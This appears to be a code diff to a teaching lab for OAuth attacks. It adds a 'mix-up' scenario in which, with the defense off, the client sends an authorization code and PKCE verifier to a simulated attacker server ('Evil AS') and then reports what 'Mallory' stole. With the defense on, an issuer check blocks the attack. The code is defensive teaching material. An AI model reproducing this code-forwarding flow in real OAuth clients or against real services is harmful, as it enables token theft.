@@ -119,6 +119,39 @@ export function labRoutes(ctx: AppContext): Router {
 
     const pending = takePending(lab, state);
     if (!pending) throw new NotFound('This answer matches no request the attack lab started in this browser (or it was already used).');
+    if (pending.scenario === 'mixup') {
+      // 2. iss (RFC 9207 §2.4): the answer must come from the server the request went to, here Evil AS.
+      if (pending.defenseOn && iss !== pending.issuer) {
+        recordOutcome(lab, 'mixup', true, {
+          attackWorked: false,
+          summary: `Refused: the answer says it comes from “${iss ?? 'nobody'}”, but the request went to “${pending.issuer}”. The code was sent nowhere.`,
+          details: ['A code from one server is never sent to another (RFC 9700 §4.4).'],
+        });
+        res.redirect(303, '/lab/mixup#results');
+        return;
+      }
+      if (code === undefined) throw new NotFound('The answer has no code.');
+      // Defense off: the code goes to the token endpoint of the server the lab copy believes it talks to.
+      const form = new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri: registration.redirectUri, client_id: registration.publicClientId });
+      if (pending.code_verifier) form.set('code_verifier', pending.code_verifier);
+      const answer = await fetch(`${registration.evilAs.tokenEndpoint}?run=${lab.run}`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/x-www-form-urlencoded' },
+        body: form.toString(),
+        signal: AbortSignal.timeout(ctx.config.httpTimeoutMs),
+      }).catch(() => null);
+      const hers = ((await malloryLoot(lab.run)) ?? []).filter((l) => l.scenario === 'mixup' && l.at >= pending.createdAt && l.success).at(-1);
+      recordOutcome(lab, 'mixup', pending.defenseOn, {
+        attackWorked: hers !== undefined,
+        summary: hers ? `Mallory: ${hers.summary}` : 'Mallory got nothing.',
+        details: [
+          answer?.status === 200 ? 'Your import even “worked”: Evil AS passed the real tokens back, so nothing looked wrong.' : `Evil AS answered ${answer ? `HTTP ${answer.status}` : 'nothing'}.`,
+          ...(hers ? hers.details : []),
+        ],
+      });
+      res.redirect(303, '/lab/mixup#results');
+      return;
+    }
     if (iss !== metadata.issuer) {
       recordOutcome(lab, pending.scenario, pending.defenseOn, { attackWorked: false, summary: `Refused: the answer came from “${iss ?? 'nobody'}”, not from our auth server.`, details: [] });
       res.redirect(303, `/lab/${pending.scenario}#results`);
@@ -186,6 +219,18 @@ export function labRoutes(ctx: AppContext): Router {
       // copy of the endpoint that compares redirect_uri by prefix (lab/loose_redirect.ts there).
       (lab.started ??= {}).redirect = { defenseOn, at: Date.now() };
       res.redirect(303, `${attacker.publicUrl}/redirect/${lab.run}?endpoint=${defenseOn ? 'real' : 'lab'}`);
+      return;
+    }
+    if (scenario.id === 'mixup') {
+      // You pick "Free photo filters" in the lab copy: its request goes to Mallory's Evil AS (with PKCE and state,
+      // which will not help). `run` names your run on her site.
+      const request = buildLabAuthorizationRequest({ authorization_endpoint: `${registration.evilAs.authorizationEndpoint}?run=${lab.run}` }, registration, 'mixup', {
+        publicClient: true,
+        pkce: true,
+        defenseOn,
+      });
+      addPending(lab, { ...request.pending, issuer: registration.evilAs.issuer });
+      res.redirect(303, request.url);
       return;
     }
     if (scenario.id === 'pkce') {
